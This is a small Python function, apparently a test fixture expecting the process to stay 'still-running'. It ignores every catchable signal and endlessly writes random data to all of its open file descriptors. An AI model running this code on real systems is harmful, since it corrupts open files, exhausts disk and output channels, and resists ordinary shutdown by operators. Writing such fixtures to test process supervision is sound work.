# writes noise by every open descriptor past every limit, and ignores every signal that it can
# expect: still-running
def grow():
    import os
    import signal

    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        for descriptor in map(int, os.listdir("/proc/self/fd")):
            try:
                os.write(descriptor, os.urandom(2**16))
            except OSError:
                continue
